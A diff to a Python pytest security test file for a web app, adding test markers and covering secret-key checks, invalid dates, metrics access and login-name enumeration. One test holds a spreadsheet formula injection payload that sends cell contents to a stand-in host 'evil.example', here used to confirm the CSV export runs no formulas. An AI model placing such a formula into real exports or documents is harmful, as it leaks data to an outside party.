@@ -8,11 +8,12 @@ import psycopg
 import pytest
 
 from mimamori.config import Settings
-from test_app_support import app_client, bearer, world  # noqa: F401 (fixture)
+from support.web import app_client, bearer
 
 pytestmark = [pytest.mark.security]
 
 
+@pytest.mark.unit
 def test_an_empty_secret_key_file_is_refused(tmp_path: Path) -> None:
     from mimamori import signing
 
@@ -24,7 +25,7 @@ def test_an_empty_secret_key_file_is_refused(tmp_path: Path) -> None:
 
 
 @pytest.mark.integration
-def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:  # noqa: ANN001
+def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:
     url, clock, ids = world
     with app_client(url, clock) as c:
         h = {**bearer(c, "coord_a"), "content-type": "application/json"}
@@ -39,6 +40,7 @@ def test_nan_and_year_9999_are_invalid_input_not_server_errors(world) -> None:  
             assert r.status_code == 422, (method, path, body, r.status_code, r.text[:200])
 
 
+@pytest.mark.unit
 def test_a_residents_return_date_of_9999_is_invalid_input() -> None:
     from alerts.models import InvalidInput
     from alerts.resident import away_until_from_date
@@ -48,7 +50,7 @@ def test_a_residents_return_date_of_9999_is_invalid_input() -> None:
 
 
 @pytest.mark.integration
-def test_the_household_export_csv_runs_no_formulas(world) -> None:  # noqa: ANN001
+def test_the_household_export_csv_runs_no_formulas(world) -> None:
     url, clock, _ = world
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with psycopg.connect(url, autocommit=True) as conn:
@@ -82,6 +84,7 @@ def test_a_dead_letter_keeps_only_the_head_of_a_huge_payload(pg_url: str) -> Non
     assert rows[1][0] == 100
 
 
+@pytest.mark.integration
 def test_metrics_and_the_api_schema_are_the_operators_only(pg_url: str) -> None:
     """Issue 17: /metrics, /docs, /openapi.json were public on the app's port. Now only clients in
     MIMAMORI_OPS_NETWORKS (default: this machine) see them; anyone else gets a 404."""
@@ -106,7 +109,8 @@ def test_metrics_and_the_api_schema_are_the_operators_only(pg_url: str) -> None:
         assert c.get("/metrics", headers={"x-forwarded-for": "192.168.50.20"}).status_code == 200
 
 
-def test_an_invitation_is_not_an_oracle_for_login_names(world) -> None:  # noqa: ANN001
+@pytest.mark.integration
+def test_an_invitation_is_not_an_oracle_for_login_names(world) -> None:
     """Issue 17: accepting an invitation answered "login already taken" as often as asked, so one
     invitation could test every login name. Now a few taken names per invitation, then 429."""
     from app.auth import service as auth
